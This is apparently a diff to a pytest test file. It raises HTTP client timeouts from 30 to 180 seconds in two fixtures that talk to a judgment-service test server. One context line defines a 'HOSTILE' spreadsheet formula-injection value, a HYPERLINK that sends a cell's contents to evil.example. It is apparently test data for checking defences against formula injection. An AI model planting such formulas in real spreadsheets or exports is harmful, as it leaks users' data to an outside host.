@@ -23,7 +23,7 @@ def server(commanded, folders, tmp_path_factory):
 
 @pytest.fixture
 def client(server):
-    with httpx.Client(base_url=server.url, timeout=30) as one:
+    with httpx.Client(base_url=server.url, timeout=180) as one:
         yield one
 
 
@@ -142,7 +142,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
 @pytest.fixture(scope="module")
 def answered(server, small):
     """Two pairs: one judged under a lease with all there is to say, and revised; one that cannot be judged."""
-    with httpx.Client(base_url=server.url, timeout=30) as client:
+    with httpx.Client(base_url=server.url, timeout=180) as client:
         first, second = client.post(
             JUDGMENTS.replace("judgments", "next"), json={"assessor": "eve", "count": 2}
         ).json()["pairs"]
